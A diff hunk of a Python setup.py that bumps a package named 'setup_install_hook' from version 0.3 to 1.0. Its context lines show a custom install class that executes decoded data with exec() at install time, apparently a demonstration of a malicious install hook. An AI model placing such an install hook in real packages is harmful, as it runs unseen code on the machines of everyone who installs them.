@@ -14,4 +14,4 @@ class PostInstall(install):
         exec(answer.decode())
 
 
-setup(name="setup_install_hook", version="0.3", py_modules=["hooked"], cmdclass={"install": PostInstall})
+setup(name="setup_install_hook", version="1.0", py_modules=["hooked"], cmdclass={"install": PostInstall})
